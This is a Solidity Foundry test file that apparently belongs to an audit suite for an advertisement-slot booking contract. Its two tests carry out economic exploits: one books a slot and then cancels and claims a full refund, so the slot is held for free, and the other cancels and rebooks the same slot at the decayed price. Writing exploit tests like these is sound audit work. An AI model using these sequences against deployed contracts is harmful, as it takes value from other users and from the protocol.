// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {AdvertisementBase} from "../plans/advertisement/AdvertisementBase.sol";
import {Attack} from "./Attack.sol";

/// @title A slot is kept from others for nothing, and paid at the fallen price (L7)
contract FreeSlotAttack is AdvertisementBase, Attack {
    /// @dev Booked as early as possible, given back as late as possible.
    function test_attack_keepsASlotForNothing() public {
        uint256 before = usdc.balanceOf(ann);
        uint256 period = week + 4;
        book(ann, 0, period);
        vm.warp(period * 7 days - 1);
        vm.prank(ann);
        ads.cancel(0, period);
        vm.prank(ann);
        ads.claim();
        uint256 cost = before - usdc.balanceOf(ann);
        // What keeping it costs who is shown.
        took("L7.slot", 100e6 - cost);
        vm.assertEq(cost, 0, "four weeks of a slot for nothing");
    }

    /// @dev Held at the price of the first day, bought at the price of the last.
    function test_attack_buysAtTheFallenPrice() public {
        uint256 before = usdc.balanceOf(ann);
        uint256 period = week + 4;
        uint256 asked = ads.priceOf(period);
        book(ann, 0, period);
        vm.warp(period * 7 days - 2 days);
        vm.prank(ann);
        ads.cancel(0, period);
        book(ann, 0, period);
        vm.prank(ann);
        ads.claim();
        uint256 cost = before - usdc.balanceOf(ann);
        took("L7.rebook", asked - cost);
        vm.assertApproxEqAbs(cost, 25.71e6, 0.01e6, "and nobody else could have it meanwhile");
    }
}
